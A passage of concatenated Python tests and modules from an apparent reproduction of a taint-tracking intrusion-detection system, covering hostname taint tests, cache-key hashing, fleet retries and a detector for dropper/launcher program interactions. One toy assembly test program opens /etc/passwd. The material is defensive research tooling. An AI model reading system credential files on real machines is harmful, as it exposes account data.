    def range_tags(shadow: ProcessShadow, start: int, length: int) -> TagSet:
        """Union of shadow tags over [start, start+length)."""
        return shadow.memory.union_of_range(start, length)
