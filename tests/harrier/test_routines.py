"""Routine short-circuit tests (paper section 7.2): gethostbyname's result
carries the *name's* taint, not the hosts database's."""

import pytest

from repro.core.hth import HTH
from repro.harrier.config import HarrierConfig
from repro.harrier.events import ResourceAccessEvent
from repro.isa import assemble
from repro.kernel.network import SinkPeer
from repro.taint import DataSource

CONNECT_HARDCODED = r"""
main:
    mov ebx, host
    call gethostbyname
    mov ecx, eax
    call socket
    mov ebx, eax
    mov edx, 80
    call connect_addr
    mov eax, 0
    ret
.data
host: .asciz "srv.example"
"""

CONNECT_USER = r"""
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+1]       ; argv[1] = host name
    call gethostbyname
    mov esi, eax            ; ip (USER INPUT via the short circuit)
    load eax, [ebp+2]
    load ebx, [eax+2]       ; argv[2] = port
    call atoi
    mov edx, eax            ; port (USER INPUT)
    mov ecx, esi
    call socket
    mov ebx, eax
    call connect_addr
    mov eax, 0
    ret
"""


def connect_event(report):
    events = [
        e for e in report.events
        if isinstance(e, ResourceAccessEvent)
        and e.call_name == "SYS_socketcall:connect"
    ]
    assert len(events) == 1
    return events[0]


def run(source, config=None, argv=None):
    hth = HTH(harrier_config=config)
    hth.network.add_peer("srv.example", 80, lambda: SinkPeer("srv"))
    return hth.run(assemble("/bin/t", source), argv=argv)


class TestShortCircuit:
    def test_hardcoded_host_yields_binary_origin(self):
        event = connect_event(run(CONNECT_HARDCODED))
        assert event.origin.has_source(DataSource.BINARY)
        assert "/bin/t" in event.origin.names_for(DataSource.BINARY)
        assert not event.origin.has_source(DataSource.FILE)

    def test_user_host_yields_user_origin(self):
        event = connect_event(
            run(CONNECT_USER, argv=["/bin/t", "srv.example", "80"])
        )
        assert event.origin.has_source(DataSource.USER_INPUT)
        # only trusted binaries (libc port/ip staging) may also appear
        untrusted = [
            n for n in event.origin.names_for(DataSource.BINARY)
            if n not in ("/lib/libc.so", "[startup]")
        ]
        assert untrusted == []

    def test_semantic_gap_without_short_circuit(self):
        # Disabling the routine module reproduces the paper's section 7.2
        # problem: the resolved address is tagged with the hosts database
        # (FILE /etc/hosts), not with the hardcoded name.
        config = HarrierConfig(short_circuit_routines=False)
        event = connect_event(run(CONNECT_HARDCODED, config=config))
        assert "/etc/hosts" in event.origin.names_for(DataSource.FILE)

    def test_nested_libc_calls_do_not_confuse_frames(self):
        # strlen and print call through libc between resolve and connect;
        # the short circuit must still bind the right frame.
        source = r"""
main:
    mov ebx, host
    call gethostbyname
    mov esi, eax
    mov ebx, msg
    call print              ; unrelated libc activity
    mov ecx, esi
    call socket
    mov ebx, eax
    mov edx, 80
    call connect_addr
    mov eax, 0
    ret
.data
host: .asciz "srv.example"
msg: .asciz "..."
"""
        event = connect_event(run(source))
        assert event.origin.has_source(DataSource.BINARY)
