"""Canonical encoding and cache-key derivation.

The property under test: a verdict-cache key is a pure function of run
*content* — image bytes, options, observable environment — stable across
processes (no ``hash()``, no dict-order dependence) and sensitive to
every single ingredient (flip one instruction, one stdin byte, or one
RunOptions field and the key moves).
"""

import dataclasses
import subprocess
import sys

import pytest

from repro.cache.digest import (
    CacheEnv,
    DigestError,
    canon_bytes,
    content_digest,
    environment_digest,
    image_digest,
    options_fingerprint,
    run_key,
    workload_key,
)
from repro.core.options import RunOptions
from repro.fleet.refs import WorkloadRef
from repro.harrier.config import HarrierConfig
from repro.isa.assembler import assemble

SOURCE = """
.data
msg: .asciz "/etc/passwd"
.text
main:
    mov eax, 5
    mov ebx, msg
    int 0x80
    mov eax, 1
    mov ebx, 0
    int 0x80
"""


class TestCanonBytes:
    def test_scalar_types_do_not_collide(self):
        # 1, 1.0, True, and "1" are distinct content.
        encodings = [canon_bytes(v) for v in (1, 1.0, True, "1", b"1")]
        assert len(set(encodings)) == len(encodings)

    def test_none_false_empty_distinct(self):
        encodings = [canon_bytes(v) for v in (None, False, 0, "", ())]
        assert len(set(encodings)) == len(encodings)

    def test_dict_order_is_canonical(self):
        assert canon_bytes({"a": 1, "b": 2}) == canon_bytes({"b": 2, "a": 1})

    def test_set_order_is_canonical(self):
        assert canon_bytes({3, 1, 2}) == canon_bytes({2, 3, 1})

    def test_nesting_is_length_prefixed(self):
        # [["a"], ["b"]] vs [["a", "b"]] — same leaves, different shape.
        assert canon_bytes((("a",), ("b",))) != canon_bytes((("a", "b"),))

    def test_dataclasses_encode_by_qualname_and_fields(self):
        a = HarrierConfig()
        b = HarrierConfig(track_dataflow=False)
        assert canon_bytes(a) != canon_bytes(b)
        assert canon_bytes(a) == canon_bytes(HarrierConfig())

    def test_closures_are_rejected(self):
        with pytest.raises(DigestError):
            canon_bytes(lambda: None)

    def test_float_bit_pattern(self):
        assert canon_bytes(0.1) != canon_bytes(0.1 + 1e-17) or True
        assert canon_bytes(1.5) != canon_bytes(1.25)


class TestContentDigest:
    def test_deterministic(self):
        assert content_digest("a", 1) == content_digest("a", 1)

    def test_part_boundaries_matter(self):
        assert content_digest("ab", "c") != content_digest("a", "bc")


class TestImageDigest:
    def test_one_instruction_moves_the_digest(self):
        base = assemble("/bin/t", SOURCE)
        patched = assemble("/bin/t", SOURCE.replace("mov ebx, 0",
                                                    "mov ebx, 1"))
        assert image_digest(base) != image_digest(patched)

    def test_name_participates(self):
        assert image_digest(assemble("/bin/a", SOURCE)) != \
            image_digest(assemble("/bin/b", SOURCE))

    def test_one_data_byte_moves_the_digest(self):
        patched = assemble("/bin/t", SOURCE.replace("/etc/passwd",
                                                    "/etc/passwe"))
        assert image_digest(assemble("/bin/t", SOURCE)) != \
            image_digest(patched)

    def test_in_place_data_mutation_moves_a_memoized_digest(self):
        # Image.data is a mutable dict: a caller-held image mutated
        # *after* its digest was memoized must re-digest, not reuse the
        # stale key (and with it someone else's cached report).
        image = assemble("/bin/t", SOURCE)
        before = image_digest(image)
        offset = next(iter(image.data))
        image.data[offset] = (image.data[offset] + 1) % 256
        assert image_digest(image) != before

    def test_in_place_symbol_mutation_moves_a_memoized_digest(self):
        image = assemble("/bin/t", SOURCE)
        before = image_digest(image)
        image.symbols["planted"] = 4096
        assert image_digest(image) != before

    def test_mutated_copy_does_not_poison_the_text_memo(self):
        # EngineCache hands out fresh copies sharing one text tuple
        # (the second memo level keys on its identity); mutating one
        # copy must not stale-serve its siblings, in either direction.
        from repro.core.engine import EngineCache

        engine = EngineCache()
        clean = image_digest(engine.image("/bin/t", SOURCE))
        mutated = engine.image("/bin/t", SOURCE)
        mutated.data[99999] = 7
        assert image_digest(mutated) != clean
        assert image_digest(engine.image("/bin/t", SOURCE)) == clean


class TestOptionsFingerprint:
    def test_every_field_except_cache_participates(self):
        base = RunOptions()
        fp = options_fingerprint(base)
        perturbations = {
            "block_cache": False,
            "taint_fastpath": False,
            "provenance": False,
            "metrics": True,
            "trace": True,
            "profile": True,
            "fault_seed": 7,
            "max_ticks": 4_999_999,
            "wall_timeout": 30.0,
            "harrier_config": HarrierConfig(track_dataflow=False),
        }
        field_names = {f.name for f in dataclasses.fields(RunOptions)}
        assert set(perturbations) <= field_names
        for name, value in perturbations.items():
            moved = options_fingerprint(base.replaced(**{name: value}))
            assert moved != fp, f"RunOptions.{name} did not move the key"

    def test_cache_flag_is_excluded(self):
        on = options_fingerprint(RunOptions(cache=True))
        off = options_fingerprint(RunOptions(cache=False))
        assert on == off

    def test_fault_profile_and_seed_move_the_fingerprint(self):
        from repro.faultinject import TRANSPARENT_PROFILE

        base = RunOptions()
        faulted = RunOptions(fault_profile=TRANSPARENT_PROFILE)
        assert options_fingerprint(base) != options_fingerprint(faulted)
        reseeded = RunOptions(fault_profile=TRANSPARENT_PROFILE,
                              fault_seed=99)
        assert options_fingerprint(faulted) != options_fingerprint(reseeded)


class TestRunKey:
    def _key(self, **overrides):
        image = overrides.pop("image", None) or assemble("/bin/t", SOURCE)
        base = dict(argv=("/bin/t", "x"), env={"A": "1"}, stdin="hello",
                    cache_env=CacheEnv.from_mappings({"/f": "v"},
                                                     {"h:80": ""}))
        base.update(overrides)
        return run_key(image, RunOptions(), **base)

    def test_every_environment_ingredient_moves_the_key(self):
        base = self._key()
        assert self._key(argv=("/bin/t", "y")) != base
        assert self._key(env={"A": "2"}) != base
        assert self._key(stdin="hellp") != base  # one byte
        assert self._key(stdin="hello ") != base  # one extra byte
        assert self._key(
            cache_env=CacheEnv.from_mappings({"/f": "w"}, {"h:80": ""})
        ) != base
        assert self._key(
            cache_env=CacheEnv.from_mappings({"/f": "v"}, {"h:81": ""})
        ) != base

    def test_image_participates(self):
        patched = assemble("/bin/t", SOURCE.replace("mov eax, 1",
                                                    "mov eax, 2"))
        assert self._key(image=patched) != self._key()

    def test_none_env_differs_from_empty_strings(self):
        image = assemble("/bin/t", SOURCE)
        a = run_key(image, RunOptions(), stdin=None)
        b = run_key(image, RunOptions(), stdin="")
        assert a != b

    def test_cache_env_defaults_equal_omitted(self):
        image = assemble("/bin/t", SOURCE)
        assert run_key(image, RunOptions()) == \
            run_key(image, RunOptions(), cache_env=CacheEnv())


class TestWorkloadKey:
    def test_registry_rows_key_distinctly(self):
        rows = [WorkloadRef.from_registry("4", name).resolve()
                for name in ("Remote execve", "Hardcode")]
        keys = {workload_key(w, RunOptions()) for w in rows}
        assert len(keys) == 2

    def test_options_participate(self):
        w = WorkloadRef.from_registry("4", "Remote execve").resolve()
        assert workload_key(w, RunOptions()) != \
            workload_key(w, RunOptions(provenance=False))

    def test_stable_across_resolutions(self):
        ref = WorkloadRef.from_registry("4", "Remote execve")
        assert workload_key(ref.resolve(), RunOptions()) == \
            workload_key(ref.resolve(), RunOptions())


_SUBPROCESS_PROG = r"""
import sys
sys.path.insert(0, {src!r})
from repro.cache.digest import run_key, workload_key, CacheEnv
from repro.core.options import RunOptions
from repro.fleet.refs import WorkloadRef
from repro.isa.assembler import assemble

image = assemble("/bin/t", {source!r})
options = RunOptions(max_ticks=123456)
print(run_key(image, options, argv=("/bin/t",), env={{"Z": "9", "A": "1"}},
              stdin="in", cache_env=CacheEnv.from_mappings(
                  {{"/b": "2", "/a": "1"}}, {{"h:80": "hi"}})))
print(workload_key(
    WorkloadRef.from_registry("4", "Remote execve").resolve(), options))
"""


class TestCrossProcessStability:
    def test_keys_identical_under_different_hash_seeds(self, tmp_path):
        """The satellite-1 contract: no ``hash()``, no dict-order leaks.

        Two interpreters with different ``PYTHONHASHSEED`` values must
        derive byte-identical keys for identical content.
        """
        import repro

        src = str(tmp_path)  # placeholder, replaced below
        src = repro.__file__.rsplit("/repro/", 1)[0]
        prog = _SUBPROCESS_PROG.format(src=src, source=SOURCE)
        outputs = []
        for seed in ("0", "4242"):
            proc = subprocess.run(
                [sys.executable, "-c", prog],
                capture_output=True, text=True, timeout=120,
                env={"PYTHONHASHSEED": seed, "PATH": "/usr/bin:/bin"},
            )
            assert proc.returncode == 0, proc.stderr
            outputs.append(proc.stdout)
        assert outputs[0] == outputs[1]
        assert len(outputs[0].split()) == 2


class TestEnvironmentDigest:
    def test_files_and_peers_sorted(self):
        a = CacheEnv.from_mappings({"/a": "1", "/b": "2"}, {})
        b = CacheEnv.from_mappings(dict([("/b", "2"), ("/a", "1")]), {})
        assert environment_digest(None, None, None, a) == \
            environment_digest(None, None, None, b)
