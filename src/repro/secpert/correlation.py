"""Simultaneous-session monitoring (paper section 10, item 7).

"Adding support to concurrently monitor different executions on one
machine, and introducing new rules and policy to detect interactions
between the different programs."

:class:`InteractionAnalyzer` wraps Secpert and additionally tracks, per
*program* (by command path), which files each one creates.  When one
monitored program uses — executes, chmods, or reopens — a file another
program created, an interaction warning fires: neither half of a
dropper/launcher pair looks malicious alone, but the interaction is the
classic staged-Trojan shape (the Windows-update.com example of §2.1
installs through exactly such a chain).

This also enables the paper's §8.2 suggestion for g++-style false
positives: a parent and the helpers it spawns form one *program group*,
so intra-group interactions are not flagged.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Set, Tuple

from repro.harrier.events import (
    DataTransferEvent,
    ResourceAccessEvent,
    SecurityEvent,
)
from repro.secpert.policy import PolicyConfig
from repro.secpert.secpert import Secpert
from repro.secpert.warnings import SecurityWarning, Severity

#: Calls that count as "using" another program's file.
_USE_CALLS = frozenset({"SYS_execve", "SYS_chmod"})


@dataclass
class MachineState:
    """What the correlator knows about the whole machine."""

    #: file path -> program (group) that created it.
    file_creators: Dict[str, str] = field(default_factory=dict)
    #: pid -> program group name.
    pid_groups: Dict[int, str] = field(default_factory=dict)
    #: Interactions already reported (creator, user, path).
    reported: Set[Tuple[str, str, str]] = field(default_factory=set)


class InteractionAnalyzer:
    """EventAnalyzer wrapper correlating events across programs."""

    def __init__(
        self,
        policy: Optional[PolicyConfig] = None,
        rete: bool = True,
    ) -> None:
        self.secpert = Secpert(policy, rete=rete)
        self.state = MachineState()
        self.warnings: List[SecurityWarning] = []

    # -- program-group bookkeeping ---------------------------------------
    def register_process(self, pid: int, group: str) -> None:
        """Attach a pid to a program group (fork children inherit)."""
        self.state.pid_groups[pid] = group

    def group_of(self, pid: int) -> str:
        return self.state.pid_groups.get(pid, f"pid{pid}")

    # -- EventAnalyzer ------------------------------------------------------
    def analyze(self, event: SecurityEvent) -> Sequence[SecurityWarning]:
        out: List[SecurityWarning] = []
        out.extend(self._correlate(event))
        out.extend(self.secpert.analyze(event))
        self.warnings.extend(out)
        return out

    def _correlate(self, event: SecurityEvent) -> List[SecurityWarning]:
        group = self.group_of(event.pid)
        if isinstance(event, DataTransferEvent):
            if event.direction == "write" and event.resource is not None:
                self.state.file_creators.setdefault(
                    event.resource.name, group
                )
            return []
        if not isinstance(event, ResourceAccessEvent):
            return []
        if event.call_name not in _USE_CALLS:
            return []
        path = event.resource.name
        creator = self.state.file_creators.get(path)
        if creator is None or creator == group:
            return []  # unknown file, or intra-group use (the g++ case)
        key = (creator, group, path)
        if key in self.state.reported:
            return []
        self.state.reported.add(key)
        return [
            SecurityWarning(
                severity=Severity.MEDIUM,
                rule="check_program_interaction",
                headline=(
                    f"Found {event.call_name} call on {path} created by "
                    f"another monitored program"
                ),
                details=(
                    f"{path} was written by {creator}",
                    f"and is now being used by {group} "
                    f"({event.call_name})",
                    "staged dropper/launcher interaction between programs",
                ),
                event=event,
                pid=event.pid,
                time=event.time,
            )
        ]


class MultiProgramMonitor:
    """Runs several programs on one machine under one correlator.

    Built on the kernel's normal multi-process support: every program is
    spawned up front, the scheduler interleaves them, and the analyzer
    sees one merged event stream (pid -> program group resolved through
    fork-aware bookkeeping).
    """

    def __init__(self, policy: Optional[PolicyConfig] = None, **hth_kwargs):
        from repro.core.hth import HTH

        options = hth_kwargs.get("options")
        self.analyzer = InteractionAnalyzer(
            policy, rete=options.rete if options is not None else True
        )
        self.hth = HTH(analyzer=self.analyzer, **hth_kwargs)
        # Track fork lineage so children stay in the parent's group.
        original_fork = self.hth.kernel.fork_process

        def fork_with_groups(parent):
            child = original_fork(parent)
            group = self.analyzer.state.pid_groups.get(parent.pid)
            if group is not None:
                self.analyzer.register_process(child.pid, group)
            return child

        self.hth.kernel.fork_process = fork_with_groups

    def spawn(self, program, argv=None, env=None, group: Optional[str] = None):
        proc = self.hth.kernel.spawn(program, argv=argv, env=env)
        name = group or proc.command
        self.analyzer.register_process(proc.pid, name)
        return proc

    def run(self, max_ticks: int = 5_000_000):
        self.hth.kernel.write_hosts_file()
        return self.hth.kernel.run(max_ticks=max_ticks)

    @property
    def warnings(self) -> List[SecurityWarning]:
        return self.analyzer.warnings

    def interaction_warnings(self) -> List[SecurityWarning]:
        return [
            w for w in self.warnings
            if w.rule == "check_program_interaction"
        ]
