"""Every warning across the paper's evaluation tables carries evidence.

The explainability promise (paper section 6.2.1: the expert system "can
give the user all of the information that was used to reach its
conclusion") has to hold for every detection in Tables 4-8, not just the
flows the recorder was designed around — so this sweeps the full
registries and pins the evidence contract per warning: at least one
source, a sink naming the triggering call, and the rule derivation that
actually fired.
"""

import json

import pytest

from repro.api import Session
from repro.fleet.refs import registry_workloads
from repro.telemetry.provenance import EVIDENCE_SCHEMA_VERSION

TABLES = ("4", "5", "6", "7", "8")


def _table_cases():
    return [
        pytest.param(table, workload, id=f"table{table}-{workload.name}")
        for table in TABLES
        for workload in registry_workloads(table)
    ]


@pytest.fixture(scope="module")
def session():
    return Session()


@pytest.mark.parametrize("table, workload", _table_cases())
def test_every_warning_is_explainable(session, table, workload):
    report = session.run_workload(workload)
    for warning in report.warnings:
        evidence = warning.evidence
        assert evidence is not None, (
            f"{workload.name}: warning {warning.rule} has no evidence"
        )
        assert evidence["schema_version"] == EVIDENCE_SCHEMA_VERSION
        assert evidence["rule"] == warning.rule
        assert len(evidence["sources"]) >= 1, (
            f"{workload.name}: {warning.rule} trail has no source"
        )
        assert evidence["sink"]["call"], (
            f"{workload.name}: {warning.rule} trail has no sink call"
        )
        assert len(evidence["derivation"]) >= 1, (
            f"{workload.name}: {warning.rule} has no rule derivation"
        )
        # the wire promise: evidence is already JSON-pure
        assert json.loads(json.dumps(evidence)) == evidence
    if report.warnings:
        assert report.provenance is not None
        assert report.provenance["evidence"] >= len(report.warnings)
