"""Fleet engine: sharding, retries, and serial/sharded determinism.

The load-bearing property: a fleet's merged per-run report dicts are
bit-identical to running the same tasks serially — independent of worker
count and shard strategy.  Plus the retry policy (watchdog and
monitor-fault outcomes retry with backoff, deterministic outcomes never
do) both as a unit (injected runner) and end to end (a real watchdog
kill via ``wall_timeout=0``).
"""

import json
from dataclasses import replace

import pytest

from repro.api import Session
from repro.core.options import RunOptions
from repro.fleet import (
    FleetTask,
    WorkloadRef,
    make_tasks,
    retry_delay,
    retry_reason,
    run_fleet,
    run_task_with_retry,
    shard,
    workload_refs,
)
from repro.fleet.report import FleetRunRecord

#: A real Table 8 row whose expected verdict is HIGH — handy because a
#: degraded (watchdog/benign) report visibly misclassifies.
ELM = WorkloadRef.from_registry("8", "ElmExploit")


def _reports_json(fleet):
    return json.dumps(fleet.reports, sort_keys=True, default=str)


# ---------------------------------------------------------------------------
# sharding


class TestShard:
    def _tasks(self, n=10):
        return [
            FleetTask(index=i, ref=ELM, options=RunOptions())
            for i in range(n)
        ]

    @pytest.mark.parametrize("strategy", ("interleave", "chunk", "name"))
    def test_every_task_assigned_exactly_once(self, strategy):
        tasks = self._tasks()
        shards = shard(tasks, 3, strategy)
        assert len(shards) == 3
        flat = sorted(t.index for s in shards for t in s)
        assert flat == list(range(10))

    def test_interleave_round_robins(self):
        shards = shard(self._tasks(5), 2, "interleave")
        assert [t.index for t in shards[0]] == [0, 2, 4]
        assert [t.index for t in shards[1]] == [1, 3]

    def test_chunk_is_contiguous(self):
        shards = shard(self._tasks(5), 2, "chunk")
        assert [t.index for t in shards[0]] == [0, 1, 2]
        assert [t.index for t in shards[1]] == [3, 4]

    def test_name_is_sticky(self):
        tasks = make_tasks(workload_refs(["8"]))
        first = shard(tasks, 4, "name")
        again = shard(list(reversed(tasks)), 4, "name")
        by_name = {
            t.ref.name: wid
            for wid, s in enumerate(first) for t in s
        }
        for wid, s in enumerate(again):
            for task in s:
                assert by_name[task.ref.name] == wid

    def test_unknown_strategy_rejected(self):
        with pytest.raises(ValueError, match="unknown shard strategy"):
            shard(self._tasks(2), 2, "roulette")


# ---------------------------------------------------------------------------
# retry policy (unit: injected runner, no multiprocessing)


def _watchdogged(report):
    return replace(report, result=replace(report.result, reason="watchdog"))


class TestRetry:
    @pytest.fixture(scope="class")
    def good_report(self):
        return ELM.resolve().run()

    def _task(self, **options):
        return FleetTask(index=0, ref=ELM, options=RunOptions(**options))

    def test_retry_reason_classification(self, good_report):
        assert retry_reason(good_report) is None
        assert retry_reason(_watchdogged(good_report)) == "watchdog"
        assert retry_reason(
            replace(good_report, monitor_faults=["boom"])
        ) == "monitor-fault"

    def test_deterministic_outcome_never_retries(self, good_report):
        sleeps = []
        record = run_task_with_retry(
            Session(), self._task(), max_retries=3,
            sleep=sleeps.append, runner=lambda w, o, t: good_report,
        )
        assert record["attempts"] == 1
        assert record["retries"] == []
        assert sleeps == []
        assert record["ok"] is True

    def test_watchdog_retried_then_succeeds(self, good_report):
        outcomes = [_watchdogged(good_report), good_report]
        sleeps = []
        record = run_task_with_retry(
            Session(), self._task(), max_retries=1, backoff=0.01,
            sleep=sleeps.append,
            runner=lambda w, o, t: outcomes.pop(0),
        )
        assert record["attempts"] == 2
        assert record["retries"] == ["watchdog"]
        # deterministic jittered backoff, attempt 1
        assert sleeps == [retry_delay(0.01, 1, seed=0, index=0)]
        assert record["report"]["result"]["reason"] != "watchdog"
        assert record["ok"] is True

    def test_monitor_fault_retried(self, good_report):
        outcomes = [
            replace(good_report, monitor_faults=["boom"]), good_report
        ]
        record = run_task_with_retry(
            Session(), self._task(), max_retries=1, backoff=0,
            runner=lambda w, o, t: outcomes.pop(0),
        )
        assert record["retries"] == ["monitor-fault"]
        assert record["report"]["monitor_faults"] == []

    def test_retries_exhausted_surfaces_final_report(self, good_report):
        wedged = _watchdogged(good_report)
        sleeps = []
        record = run_task_with_retry(
            Session(), self._task(), max_retries=2, backoff=0.01,
            sleep=sleeps.append, runner=lambda w, o, t: wedged,
        )
        assert record["attempts"] == 3
        assert record["retries"] == ["watchdog", "watchdog"]
        # deterministic jittered backoff, exponential base
        assert sleeps == [
            retry_delay(0.01, 1, seed=0, index=0),
            retry_delay(0.01, 2, seed=0, index=0),
        ]
        assert record["report"]["result"]["reason"] == "watchdog"

    def test_exception_retried_then_succeeds(self, good_report):
        outcomes = [None, good_report]

        def runner(w, o, t):
            out = outcomes.pop(0)
            if out is None:
                raise RuntimeError("transient")
            return out

        record = run_task_with_retry(
            Session(), self._task(), max_retries=1, backoff=0,
            runner=runner,
        )
        assert record["retries"] == ["error"]
        assert record["error"] is None
        assert record["ok"] is True

    def test_exception_exhausted_keeps_traceback(self):
        def runner(w, o, t):
            raise RuntimeError("still broken")

        record = run_task_with_retry(
            Session(), self._task(), max_retries=1, backoff=0,
            runner=runner,
        )
        assert record["report"] is None
        assert record["ok"] is None
        assert "still broken" in record["error"]

    def test_unresolvable_ref_is_an_error_record(self):
        task = FleetTask(
            index=0,
            ref=WorkloadRef(
                module="repro.programs.exploits.registry",
                factory="table8_workloads",
                name="no-such-row",
            ),
        )
        record = run_task_with_retry(Session(), task)
        assert record["report"] is None
        assert "no-such-row" in record["error"]


# ---------------------------------------------------------------------------
# determinism: fleet == serial, bit for bit


class TestFleetDeterminism:
    def test_four_worker_fleet_matches_serial_over_all_workloads(self):
        refs = workload_refs()
        assert len(refs) == 62
        serial = run_fleet(refs, workers=1)
        fleet = run_fleet(refs, workers=4)
        assert not serial.failures
        assert not fleet.failures
        assert [r.name for r in fleet.runs] == [r.name for r in serial.runs]
        assert _reports_json(fleet) == _reports_json(serial)

    @pytest.mark.parametrize("strategy", ("chunk", "name"))
    def test_shard_strategy_does_not_change_output(self, strategy):
        refs = workload_refs(["8"])
        base = run_fleet(refs, workers=2, shard_by="interleave")
        other = run_fleet(refs, workers=2, shard_by=strategy)
        assert _reports_json(base) == _reports_json(other)

    def test_per_run_reports_carry_schema_version(self):
        fleet = run_fleet([ELM], workers=1)
        assert fleet.runs[0].report["schema_version"] == 2
        # fleet wire format v2: adds the partial-drain flag
        assert fleet.to_dict()["schema_version"] == 2
        assert fleet.to_dict()["partial"] is False

    def test_workers_clamped_to_task_count(self):
        fleet = run_fleet([ELM], workers=8)
        assert fleet.workers == 1
        assert len(fleet.runs) == 1


# ---------------------------------------------------------------------------
# retries end to end: a real watchdog kill through worker processes


class TestFleetRetriesEndToEnd:
    def test_wall_timeout_zero_exhausts_retries(self):
        # wall_timeout=0 arms an already-expired watchdog: every attempt
        # (in real worker processes) is killed immediately.
        tasks = make_tasks(
            workload_refs(["8"])[:2], RunOptions(wall_timeout=0.0)
        )
        fleet = run_fleet(tasks, workers=2, max_retries=1)
        assert len(fleet.runs) == 2
        for record in fleet.runs:
            assert record.attempts == 2
            assert record.retries == ["watchdog"]
            assert record.report["result"]["reason"] == "watchdog"
            assert record.ok is False
        assert len(fleet.retried) == 2
        assert len(fleet.failures) == 2

    def test_retry_after_watchdog_recovers_in_worker(self, monkeypatch):
        # First attempt wedges (wall_timeout=0), then the retry runs with
        # the budget restored — patched at the worker level so the real
        # run_task_with_retry drives a real Session.
        import repro.fleet.worker as worker_mod

        task = FleetTask(
            index=0, ref=ELM, options=RunOptions(wall_timeout=0.0)
        )
        real_run_workload = Session.run_workload
        calls = []

        def flaky(self, workload, options=None, **kwargs):
            calls.append(1)
            if len(calls) > 1:
                options = options.replaced(wall_timeout=None)
            return real_run_workload(
                self, workload, options=options, **kwargs
            )

        monkeypatch.setattr(Session, "run_workload", flaky)
        record = worker_mod.run_task_with_retry(
            Session(), task, max_retries=1, backoff=0
        )
        assert record["attempts"] == 2
        assert record["retries"] == ["watchdog"]
        assert record["report"]["result"]["reason"] != "watchdog"
        assert record["ok"] is True


# ---------------------------------------------------------------------------
# failure containment


class TestWorkerDeath:
    def test_dead_worker_yields_error_records(self):
        # Simulate a worker that dies before its sentinel: the record
        # synthesis path must fill in every unfinished task.
        from repro.fleet.engine import _collect

        class DeadProc:
            exitcode = -9

            @staticmethod
            def is_alive():
                return False

        class EmptyQueue:
            @staticmethod
            def get(timeout):
                import queue as queue_mod
                raise queue_mod.Empty

        tasks = make_tasks([ELM, ELM])
        records, cache_parts = _collect(
            {0: DeadProc()}, {0: tasks}, EmptyQueue()
        )
        assert cache_parts == []
        assert [r.index for r in records] == [0, 1]
        for record in records:
            assert record.failed
            assert "exit code -9" in record.error

    def test_wire_roundtrip(self):
        record = FleetRunRecord(
            index=3, name="x", worker=1, attempts=2,
            retries=["watchdog"], ok=True, report={"verdict": "high"},
            elapsed=0.5,
        )
        wire = record.to_dict()
        back = FleetRunRecord.from_wire(wire)
        assert back == replace(record, spans=None)
