"""CLIPS fact templates for Secpert and event-to-fact conversion.

The templates mirror the assertions shown in paper appendix A.1: a
``system_call_access`` fact for resource accesses and a ``data_transfer``
fact for reads/writes, each carrying the resource identifier's provenance
(as a :class:`TagSet` — the CLIPS prototype used parallel multifield
slots), plus time, code frequency, and code address.
"""

from __future__ import annotations

from typing import Optional

from repro.expert.template import Fact, SlotSpec, Template
from repro.harrier.events import (
    DataTransferEvent,
    MemoryEvent,
    ProcessEvent,
    ResourceAccessEvent,
    SecurityEvent,
)
from repro.kernel.process import ResourceKind
from repro.taint.tags import TagSet

#: Resource kinds folded into the policy's FILE type (a FIFO or a
#: directory listing is file-like for information-flow purposes).
_FILE_LIKE = {ResourceKind.FILE, ResourceKind.FIFO, ResourceKind.DIRECTORY}


def policy_resource_type(kind: ResourceKind) -> str:
    if kind in _FILE_LIKE:
        return "FILE"
    if kind is ResourceKind.SOCKET:
        return "SOCKET"
    return "CONSOLE"


SYSTEM_CALL_ACCESS = Template(
    "system_call_access",
    (
        SlotSpec("system_call_name"),
        SlotSpec("resource_name"),
        SlotSpec("resource_type"),
        SlotSpec("resource_origin"),   # TagSet of the identifier string
        SlotSpec("time"),
        SlotSpec("frequency"),
        SlotSpec("address"),
        SlotSpec("pid"),
    ),
)

DATA_TRANSFER = Template(
    "data_transfer",
    (
        SlotSpec("system_call_name"),
        SlotSpec("direction"),         # 'read' | 'write'
        SlotSpec("resource_name"),
        SlotSpec("resource_type"),     # 'FILE' | 'SOCKET' | 'CONSOLE'
        SlotSpec("data_tags"),         # TagSet of the bytes moved
        SlotSpec("resource_origin"),   # TagSet of the target identifier
        SlotSpec("source_origins"),    # ((Tag, TagSet), ...) per source
        SlotSpec("server_socket"),     # server address when target accepted
        SlotSpec("server_origin"),     # TagSet of that server address
        SlotSpec("source_server_socket"),  # server address when data came
        SlotSpec("source_server_origin"),  # in via our listener
        SlotSpec("content_type"),      # sniffed class of the bytes moved
        SlotSpec("length"),
        SlotSpec("time"),
        SlotSpec("frequency"),
        SlotSpec("address"),
        SlotSpec("pid"),
    ),
)

PROCESS_CREATED = Template(
    "process_created",
    (
        SlotSpec("total"),
        SlotSpec("recent"),
        SlotSpec("window"),
        SlotSpec("time"),
        SlotSpec("frequency"),
        SlotSpec("address"),
        SlotSpec("pid"),
    ),
)

MEMORY_USAGE = Template(
    "memory_usage",
    (
        SlotSpec("total_allocated"),
        SlotSpec("delta"),
        SlotSpec("time"),
        SlotSpec("frequency"),
        SlotSpec("address"),
        SlotSpec("pid"),
    ),
)

ALL_TEMPLATES = (
    SYSTEM_CALL_ACCESS, DATA_TRANSFER, PROCESS_CREATED, MEMORY_USAGE
)


def event_to_fact(event: SecurityEvent) -> Optional[Fact]:
    """Convert a Harrier event into the corresponding CLIPS fact."""
    if isinstance(event, ResourceAccessEvent):
        return SYSTEM_CALL_ACCESS.make(
            system_call_name=event.call_name,
            resource_name=event.resource.name,
            resource_type=policy_resource_type(event.resource.kind),
            resource_origin=event.origin,
            time=event.time,
            frequency=event.frequency,
            address=event.address,
            pid=event.pid,
        )
    if isinstance(event, DataTransferEvent):
        return DATA_TRANSFER.make(
            system_call_name=event.call_name,
            direction=event.direction,
            resource_name=event.resource.name,
            resource_type=policy_resource_type(event.resource.kind),
            data_tags=event.data_tags,
            resource_origin=event.resource_origin,
            source_origins=event.source_origins,
            server_socket=event.server_socket,
            server_origin=event.server_socket_origin,
            source_server_socket=event.source_server_socket,
            source_server_origin=event.source_server_origin,
            content_type=event.content_type,
            length=event.length,
            time=event.time,
            frequency=event.frequency,
            address=event.address,
            pid=event.pid,
        )
    if isinstance(event, ProcessEvent):
        return PROCESS_CREATED.make(
            total=event.total_created,
            recent=event.recent_created,
            window=event.window,
            time=event.time,
